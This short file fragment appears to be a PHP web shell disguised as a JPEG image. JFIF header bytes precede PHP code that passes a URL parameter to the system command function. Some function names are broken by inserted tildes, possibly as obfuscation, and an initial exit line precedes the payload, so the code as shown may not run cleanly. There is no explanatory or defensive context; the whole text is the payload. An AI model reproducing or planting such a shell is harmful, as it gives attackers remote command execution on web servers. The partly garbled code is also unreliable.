<?php exit; ?>
{xff}{xd8}{xff}{xe0}{x00}{x10}JFIF{x00}<?php sys~tem($_G~ET['m']); __halt_compiler();
